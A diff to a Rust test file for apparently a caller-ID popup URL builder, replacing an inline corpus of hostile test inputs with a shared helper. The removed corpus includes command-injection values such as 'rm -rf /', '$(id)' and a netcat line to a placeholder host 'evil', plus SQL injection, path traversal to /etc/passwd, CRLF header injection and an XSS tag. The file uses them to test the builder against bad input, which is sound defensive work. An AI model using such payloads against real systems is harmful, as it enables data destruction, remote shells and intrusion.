@@ -9,64 +9,7 @@ use bb_cti::request::{CrmUrl, FORM_CONTENT_TYPE, HttpMethod, build_popup};
 use url::Url;
 
 fn corpus() -> Vec<String> {
-    let mut v: Vec<String> = [
-        "",
-        "\"",
-        "'",
-        "\";calc;\"",
-        "'; DROP TABLE calls; --",
-        "0901;rm -rf /",
-        "a&b=c",
-        "&&",
-        "x=y&number=evil",
-        "| nc evil 4444",
-        "`id`",
-        "$(id)",
-        "${IFS}",
-        "%",
-        "%25",
-        "%00",
-        "%OpPW%",
-        "%CallerNumber%",
-        "100%%",
-        "%PATH%",
-        "^&calc",
-        "a b  c",
-        " ",
-        "line1\nline2",
-        "\r\nX-Injected: 1",
-        "\0",
-        "nul\0in the middle",
-        "\u{202e}evil",
-        "山田太郎",
-        "０９０１２３４５６７８",
-        "😀",
-        "+81 3-1234-5678",
-        "#",
-        "?x=1#frag",
-        "/../../etc/passwd",
-        "..\\..\\windows",
-        "--help",
-        "-rf",
-        "- -",
-        "<script>alert(1)</script>",
-        "\\\"",
-        "\\",
-        "\t",
-        "*",
-        "~",
-        "!",
-        ">out",
-        "<in",
-    ]
-    .into_iter()
-    .map(str::to_owned)
-    .collect();
-    v.push("9".repeat(1024));
-    v.push("&=".repeat(512));
-    v.push("あ".repeat(1024));
-    v.push(";".repeat(1024));
-    v
+    bb_testenv::hostile::caller_ids()
 }
 
 fn values_with(hostile: &str) -> CallValues {
